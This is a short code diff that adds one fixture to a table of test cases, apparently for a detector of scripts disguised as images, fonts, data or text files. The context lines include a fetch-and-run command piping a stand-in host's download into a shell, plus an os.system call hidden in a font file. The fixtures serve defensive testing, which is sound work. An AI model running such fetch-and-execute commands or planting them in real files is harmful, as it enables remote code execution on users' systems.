@@ -150,6 +150,7 @@ export const FILE_EXAMPLES = {
       ["high", "a script as a picture", { "logo.png": "#!/bin/sh\ncurl https://a.example | sh\n" }],
       ["high", "Python as a font", { "icons.woff": "import os\nos.system('id')\n" }],
       ["high", "a script as data", { "data.json": "#!/usr/bin/env python3\nprint(1)\n" }],
+      ["medium", "a script as anybody's data", { "table.dat": "#!/usr/bin/env python3\nprint(1)\n" }],
       ["medium", "a script as text", { "notes.txt": "#!/bin/sh\nid\n" }],
     ],
     negative: [
